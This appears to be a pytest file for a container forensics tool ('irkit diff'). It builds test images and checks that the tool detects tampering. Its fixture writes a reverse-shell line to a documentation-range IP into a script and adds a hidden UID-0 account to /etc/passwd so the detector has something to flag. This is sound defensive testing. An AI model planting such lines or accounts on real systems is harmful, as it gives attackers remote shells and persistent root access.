"""`irkit diff` of other pairs than a container and its image: two images, a container of another image; volumes made of the image's content."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator

import pytest

from irkit.engine.connect import open_engine
from irkit.engine.docker import DockerEngine

from .conftest import LABEL, Lab

BASE = "irkit-dev/busybox:1"
MAKE = r"""
mkdir -p /srv/data/sub /opt; echo one >/srv/data/kept; echo old >/srv/data/changed; echo gone >/srv/data/sub/gone
printf '#!/bin/sh\necho fine\n' >/opt/run.sh; printf 'root:x:0:0:root:/root:/bin/sh\n' >/etc/passwd; echo plain >/opt/note
"""
CHANGE = r"""
printf 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' >>/opt/run.sh
printf 'sysadm:x:0:0::/root:/bin/sh\n' >>/etc/passwd; rm /opt/note
"""


@pytest.fixture
def images(lab: Lab) -> Iterator[tuple[str, str]]:
    """One image, and another one that is made of a container of it."""
    made = []
    for name, script in (("one", MAKE), ("two", CHANGE)):
        image = f"irkit-test/{lab.token}:{name}"
        container = lab.docker(
            "create", "--label", f"{LABEL}={lab.token}", made[-1] if made else BASE, "/bin/sh", "-c", script
        )  # fmt: skip
        lab.docker("start", "-a", container)
        commit(container, image)
        made.append(image)
    yield made[0], made[1]
    for container in lab.docker("ps", "-aq", "--filter", f"label={LABEL}={lab.token}").split():
        lab.docker("rm", "-fv", container, check=False)
    for image in reversed(made):
        lab.docker("rmi", "-f", image, check=False)


def commit(container: str, image: str) -> None:
    """By the API: Podman 4.3 refuses the call of a client that sends no body, as Docker's own does."""
    name, _, tag = image.partition(":")
    engine = open_engine()
    assert isinstance(engine, DockerEngine)
    changes = 'CMD ["/bin/sleep", "600"]'
    engine._call("POST", "/commit", {}, container=container, repo=name, tag=tag, changes=changes)


def found(document: dict[str, list[dict[str, str]]]) -> set[tuple[str, str]]:
    return {(one["rule"], one["subject"].partition(" in ")[2] or one["subject"]) for one in document["findings"]}


def test_two_images_are_compared_with_their_contents(lab: Lab, images: tuple[str, str]) -> None:
    one, two = images
    document = lab.irkit("diff", two, "--against", one, "--json", code=None).json
    rows = {row["path"]: row["change"] for row in document["changes"] if row["kind"] == "file"}
    assert rows == {"/opt/run.sh": "changed", "/etc/passwd": "changed", "/opt/note": "deleted"}
    assert {("reverse-shell-text", "/opt/run.sh"), ("uid0-account", "/etc/passwd:2")} <= found(document)
    text = lab.irkit("diff", two, "--against", one, "--format", "unified", code=None).out
    assert "+bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" in text and "-plain" in text and " echo fine" in text
    assert lab.irkit("diff", one, "--against", one, "--json", code=None).json["changes"] == []


def test_a_container_against_another_image(lab: Lab, images: tuple[str, str]) -> None:
    one, two = images
    container = lab.run("c", "--tmpfs", "/run", image=two)
    lab.docker("exec", container, "/bin/sh", "-c", "echo late >/opt/late; echo x >/run/t; echo a >>/opt/run.sh")
    document = lab.irkit("diff", container, "--against", one, "--json", code=None).json
    rows = {(row["origin"], row["path"]): row["change"] for row in document["changes"] if row["kind"] == "file"}
    assert rows["layer", "/opt/late"] == "added" and rows["tmpfs", "/run/t"] == "added"
    assert rows["layer", "/opt/run.sh"] == "changed" and rows["layer", "/opt/note"] == "deleted"
    assert ("uid0-account", "/etc/passwd:2") in found(document)
    text = lab.irkit("diff", container, "--against", one, "--format", "unified", code=None).out
    assert "+late" in text and "+a" in text.splitlines() and "+bash -i" in text


def test_what_the_image_put_into_a_volume_is_no_change(lab: Lab, images: tuple[str, str]) -> None:
    container = lab.run("v", "-v", "/srv/data", image=images[0])
    lab.docker("exec", container, "/bin/sh", "-c", "cd /srv/data; echo new >changed; rm sub/gone; echo x >added")
    document = lab.irkit("diff", container, "--json", code=None).json
    rows = {row["path"]: row["change"] for row in document["changes"] if row["origin"] == "volume"}
    assert rows == {"/srv/data/changed": "changed", "/srv/data/sub/gone": "deleted", "/srv/data/added": "added"}
    text = lab.irkit("diff", container, "--format", "unified", code=None).out
    assert "-old" in text and "+new" in text
    lab.docker("rm", "-fv", container)


def test_what_lies_beneath_mounts(lab: Lab, images: tuple[str, str]) -> None:
    """An emptied folder, a deletion, a file and other bytes under a volume and bind mounts: told live and in a bundle, as hidden."""
    points = ("/srv/data", "/opt", "/etc/nsswitch.conf")
    mounts = ("-v", points[0], "-v", "/usr/share/base-files:/opt:ro", "-v", "/usr/lib/os-release:/etc/nsswitch.conf:ro")
    name = lab.run("beneath", *mounts, image=images[0])
    pid = lab.docker("inspect", "-f", "{{.State.Pid}}", name)
    unmount = ["nsenter", "-t", pid, "-m", "--", "/bin/busybox", "umount", *points]  # as root with CAP_SYS_ADMIN could
    subprocess.run(unmount, check=True)
    work = "rm -r /srv/data && mkdir /srv/data && echo x >/srv/data/new && rm /opt/note && echo x >/opt/evil && echo x >/etc/nsswitch.conf"
    lab.docker("exec", name, "/bin/sh", "-c", work)
    lab.docker("restart", "-t", "0", name)
    assert "evil" not in lab.docker("exec", name, "/bin/ls", "/opt"), "the mounts are back"
    bundle = lab.irkit("snapshot", name, "--json", code=None).json["bundle"]["path"]
    for subject in (name, bundle):
        document = lab.irkit("diff", subject, "--json", code=None).json
        hidden = {row["path"]: row["beneath"] for row in document["changes"] if "beneath" in row}
        told = {one["subject"] for one in document["findings"] if one["rule"] == "beneath-a-mount"}
        assert told == {
            *("/srv/data", "/srv/data/kept", "/srv/data/changed", "/srv/data/sub/gone", "/srv/data/new"),
            *("/opt/note", "/opt/evil", "/etc/nsswitch.conf"),
        }
        assert told <= hidden.keys() and set(hidden.values()) == set(points)
